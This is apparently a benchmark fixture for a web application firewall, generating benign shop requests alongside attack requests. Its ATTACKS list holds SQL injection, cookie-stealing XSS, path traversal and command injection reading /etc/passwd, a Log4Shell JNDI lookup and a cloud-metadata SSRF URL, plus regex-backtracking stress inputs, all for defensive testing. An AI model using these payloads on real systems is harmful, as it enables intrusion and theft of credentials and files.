/** Requests as an agent gives them to the engine: values by address. */
import JUMBLE from '../../packages/waf/test/vectors/attacks.json' with { type: 'json' };
import { Random } from './random.ts';

export type Addresses = Record<string, unknown>;

const HEX = '0123456789abcdef';
const TOKEN = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
const WORDS = (
  'the a of our new order please deliver before noon and leave with neighbour if nobody answers door ring twice thanks ' +
  'gift wrapped blue medium size fits well returned last week still waiting for refund on card very happy service ' +
  'colour brighter than picture would buy again recommended friends kitchen table lamp chair garden summer winter'
).split(' ');
const NAMES = [
  'Jane Doe',
  'Ana Souza',
  'Miles Okafor',
  "Conor O'Brien",
  'Lena Schmidt',
  'Ravi Patel',
  'Wei Chen',
];
const CITIES = ['Berlin', 'São Paulo', 'Austin', 'Leeds', 'Lyon', 'Osaka', 'Kraków', 'Cork'];
const STREETS = ['Main Street', 'Hauptstraße', 'Rue de la Paix', 'Station Road', 'Elm Avenue'];
const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
];

/** A GET of a list: 8 headers, 2 cookies, 3 query values. */
export function benignGet(random: Random): Addresses {
  const category = random.pick(['chairs', 'lamps', 'tables', 'sofas']);
  const query = {
    category,
    page: String(1 + random.below(20)),
    sort: random.pick(['price', 'name', 'newest']),
  };
  return {
    'http.client_ip': clientIp(random),
    'server.request.method': 'GET',
    'server.request.uri.raw': `/products?category=${category}&page=${query.page}&sort=${query.sort}`,
    'server.request.query': query,
    'server.request.headers.no_cookies': {
      host: 'shop.example.com',
      accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
      'accept-encoding': 'gzip, deflate, br, zstd',
      'accept-language': 'en-US,en;q=0.9,de;q=0.8',
      connection: 'keep-alive',
      'user-agent': random.pick(USER_AGENTS),
      referer: 'https://shop.example.com/',
      'upgrade-insecure-requests': '1',
    },
    'server.request.cookies': { sid: random.text(32, HEX), theme: random.pick(['light', 'dark']) },
  };
}

/** A POST of an order as JSON: 9 headers, 3 cookies, 4 query values and a body of 15 values, in all some 1.6 kB. */
export function benignPost(random: Random): Addresses {
  return {
    'http.client_ip': clientIp(random),
    'server.request.method': 'POST',
    'server.request.uri.raw': '/api/orders?locale=en-US&currency=EUR&channel=web&preview=false',
    'server.request.query': { locale: 'en-US', currency: 'EUR', channel: 'web', preview: 'false' },
    'server.request.headers.no_cookies': {
      host: 'shop.example.com',
      accept: 'application/json, text/plain, */*',
      'accept-encoding': 'gzip, deflate, br, zstd',
      'accept-language': 'en-US,en;q=0.9,de;q=0.8',
      'content-type': 'application/json',
      'content-length': String(600 + random.below(100)),
      'user-agent': random.pick(USER_AGENTS),
      origin: 'https://shop.example.com',
      referer: `https://shop.example.com/checkout/${random.text(12, HEX)}`,
    },
    'server.request.cookies': {
      sid: random.text(64, TOKEN),
      csrf: random.text(43, TOKEN),
      consent: 'necessary.preferences.statistics',
    },
    'server.request.body': {
      customer: {
        name: random.pick(NAMES),
        email: `${random.text(8, HEX)}@example.com`,
        phone: `+49 30 ${1000000 + random.below(9000000)}`,
      },
      address: {
        street: `${random.pick(STREETS)} ${1 + random.below(200)}`,
        city: random.pick(CITIES),
        postcode: String(10000 + random.below(90000)),
        country: 'DE',
      },
      items: [
        { sku: `CH-${random.text(6, HEX)}`, title: sentence(random, 6), quantity: 1 + random.below(4) },
        { sku: `LA-${random.text(6, HEX)}`, title: sentence(random, 6), quantity: 1 },
      ],
      coupon: `WELCOME-${random.text(6, TOKEN)}`,
      note: sentence(random, 170),
    },
  };
}

/** A POST whose body is about so many bytes of JSON: a list of orders' lines. */
export function largePost(random: Random, bytes: number): Addresses {
  const lines: object[] = [];
  for (let size = 0; size < bytes; ) {
    const line = {
      sku: `CH-${random.text(8, HEX)}`,
      title: sentence(random, 8),
      description: sentence(random, 40),
      price: random.below(100000) / 100,
      image: `https://cdn.example.com/img/${random.text(16, HEX)}.webp`,
    };
    lines.push(line);
    size += JSON.stringify(line).length + 1;
  }
  return { ...benignPost(random), 'server.request.body': { lines } };
}

const ATTACKS = [
  "1' UNION SELECT username, password FROM users--",
  '<script>alert(document.cookie)</script>',
  '../../../../../../etc/passwd',
  ';cat /etc/passwd',
  `\${jndi:ldap://198.51.100.7/a}`,
  'http://169.254.169.254/latest/meta-data/',
];

/** The POST with an attack in one value of its body. */
export function attackPost(random: Random): Addresses {
  const request = benignPost(random);
  const body = request['server.request.body'] as object;
  return { ...request, 'server.request.body': { ...body, coupon: random.pick(ATTACKS) } };
}

/** Beginnings of attacks over and over, none of which is finished: what makes backtracking engines go over it again. */
export function hostilePost(random: Random): Addresses {
  const beginnings = [
    'select ',
    "' or ",
    '<a ',
    'union/**/',
    '((((',
    '$({',
    '../',
    '0x0,',
    'from(',
    '"+"',
    '||',
    ';;',
  ];
  const values = Array.from({ length: 8 }, () => {
    let text = '';
    const [one, other] = [random.pick(beginnings), random.pick(beginnings)];
    while (text.length < 4096) text += random.below(3) === 0 ? one : other;
    return text.slice(0, 4096);
  });
  return { ...benignPost(random), 'server.request.body': { values } };
}

const COMMENTS = [
  'The parcel arrived on time, but the box was open; two of the (four) legs are missing. Could you send them? Thanks!',
  "I'd ordered the blue one - size M - and it's grey/green. Please call me, or write to jane.doe@example.com.",
  'Заказ должен был прийти во вторник, а пришёл в пятницу. Спасибо, всё остальное — отлично!',
  '椅子很好，但是颜色和图片不一样。请问可以换货吗？谢谢！',
  'Schöne Lampe, leider für unsere Küche zu groß: Rückgabe möglich? Viele Grüße, Jürgen 👍',
];

/** The POST with a customer's comment of some 600 characters, with punctuation and in several languages. */
export function commentPost(random: Random): Addresses {
  const request = benignPost(random);
  const body = request['server.request.body'] as object;
  const note = Array.from({ length: 6 }, () => random.pick(COMMENTS)).join(' ');
  return { ...request, 'server.request.body': { ...body, note } };
}

/** Three values of 4096 characters: pieces of many different attacks, one after the other, which have little in common. */
export function jumbledPost(random: Random): Addresses {
  const attacks = Object.values(JUMBLE as Record<string, string[]>).flat();
  const values = Array.from({ length: 3 }, () => {
    let text = '';
    while (text.length < 4096) {
      const attack = random.pick(attacks);
      text += `${attack.slice(0, 2 + random.below(attack.length))} `;
    }
    return text.slice(0, 4096);
  });
  return { ...benignPost(random), 'server.request.body': { values } };
}

/** Prose of about so many characters, in values of at most 4096 each. */
export function prosePost(random: Random, characters: number): Addresses {
  return { 'server.request.body': cut(sentence(random, characters / 4), characters) };
}

/** The same with one character, which `.*` and `\s*` run over again and again in backtracking engines. */
export function repeatedPost(text: string, characters: number): Addresses {
  return { 'server.request.body': cut(text.repeat(Math.ceil(characters / text.length)), characters) };
}

function cut(text: string, characters: number): string[] {
  const values: string[] = [];
  for (let i = 0; i < characters; i += 4096) values.push(text.slice(i, Math.min(i + 4096, characters)));
  return values;
}

function sentence(random: Random, words: number): string {
  const chosen: string[] = [];
  for (let i = 0; i < words; i++) chosen.push(random.pick(WORDS));
  return chosen.join(' ');
}

function clientIp(random: Random): string {
  return `203.0.113.${random.below(256)}`;
}

/**
 * So many different requests of one kind, made before anything is timed. No two share a string object, as requests that
 * come over a socket don't.
 */
export function varied(make: (random: Random) => Addresses, count: number, seed = 1): Addresses[] {
  const random = new Random(seed);
  return Array.from({ length: count }, () => JSON.parse(JSON.stringify(make(random))) as Addresses);
}

/** Characters of all strings among the values, at any depth. */
export function charactersOf(value: unknown): number {
  if (typeof value === 'string') return value.length;
  if (typeof value !== 'object' || value === null) return 0;
  return Object.values(value).reduce((sum: number, item) => sum + charactersOf(item), 0);
}
